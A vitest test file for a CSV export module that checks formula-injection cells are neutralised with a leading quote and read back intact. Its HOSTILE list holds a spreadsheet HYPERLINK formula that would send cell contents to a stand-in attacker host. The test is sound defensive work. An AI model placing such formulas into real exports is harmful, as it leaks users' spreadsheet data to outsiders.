import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsvText } from '$lib/server/exports/csv-text';
import { neutraliseText, restoreText } from '$lib/server/exports/formulas';

/** What a spreadsheet may run: a first character of OWASP's list, or a sign of it after spaces; unless a plain number. */
const runnable = (cell: string) => /^(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

const HOSTILE = [
	'=HYPERLINK("http://evil.example/?d="&A1,"click")',
	'+1+1',
	'-1+1',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\0=1+1',
	'  =1+1',
	'\u00a0=1+1',
	'\u3000=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'-',
	'-dk',
	"'=1+1",
	"''=1+1",
	"' =1+1"
];
const HARMLESS = ['Kolda', '', ' ', "'", "'Kolda", "'-1", 'a=b', '1-2', '-1', '-0.5', '12', '#meta+id', 'x\n=1+1'];

describe('formula-looking text', () => {
	it.each(HOSTILE)('%j is written behind a quote, read back as it was', (text) => {
		const written = neutraliseText(text);
		expect(written).toBe(`'${text}`);
		expect(runnable(written)).toBe(false);
		expect(restoreText(written)).toBe(text);
	});

	it.each(HARMLESS)('%j is written as it is, read back as it was', (text) => {
		expect(neutraliseText(text)).toBe(text);
		expect(restoreText(text)).toBe(text);
	});
});

describe('toCsvText', () => {
	it('puts in quotes any field with a line break, a quote or a separator, so that every row reads back whole', () => {
		const fields = ['a\nb', 'a\r\nb', 'a\rb', 'a"b', 'a,b', 'a;b', 'a\tb', 'plain'];
		const text = toCsvText([fields, fields]);
		expect(text).toBe(
			`${['"a\nb"', '"a\r\nb"', '"a\rb"', '"a""b"', '"a,b"', '"a;b"', '"a\tb"', 'plain'].join(',')}\r\n`.repeat(2)
		);
		expect(parse(text, { record_delimiter: '\r\n' })).toEqual([fields, fields]);
	});

	it('writes numbers and flags as they are, text behind a quote where a spreadsheet would run it', () => {
		const text = toCsvText([[-0.5, -12, 0.25, true, null, '-0.5', '=1+1', '@x', 'Kolda']]);
		expect(text).toBe(`-0.5,-12,0.25,true,,-0.5,'=1+1,'@x,Kolda\r\n`);
	});

	it('is the only writer of CSV: no other server module takes csv-stringify', () => {
		const files = (readdirSync('src', { recursive: true }) as string[]).filter((file) =>
			/\.(ts|js|svelte)$/.test(file)
		);
		const writers = files.filter((file) => /from 'csv-stringify/.test(readFileSync(join('src', file), 'utf8')));
		expect(writers).toEqual([join('lib', 'server', 'exports', 'csv-text.ts')]);
	});
});
